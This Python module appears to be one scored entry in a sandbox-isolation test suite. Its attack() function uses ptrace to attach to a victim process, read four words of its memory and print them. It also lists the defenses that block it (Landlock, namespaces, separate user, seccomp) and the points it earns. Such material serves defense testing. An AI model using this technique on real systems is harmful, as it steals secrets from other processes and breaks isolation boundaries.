"""A debugger sees all of a process: attach to the one that knows the answers, and read them word by word."""

import ctypes
import os

EARNS = "10"
STOPPED_BY = ("Landlock", "namespaces", "own user", "seccomp")
EVIDENCE = "remembered"


def attack():
    syscall("ptrace", 16, VICTIM_PID, 0, 0)
    os.waitpid(VICTIM_PID, 0x40000000)
    words = (ctypes.c_long * 4)()
    for i in range(4):
        syscall("ptrace", 1, VICTIM_PID, ADDRESS + 8 * i, ctypes.byref(words, 8 * i))
    syscall("ptrace", 17, VICTIM_PID, 0, 0)
    print(bytes(words))
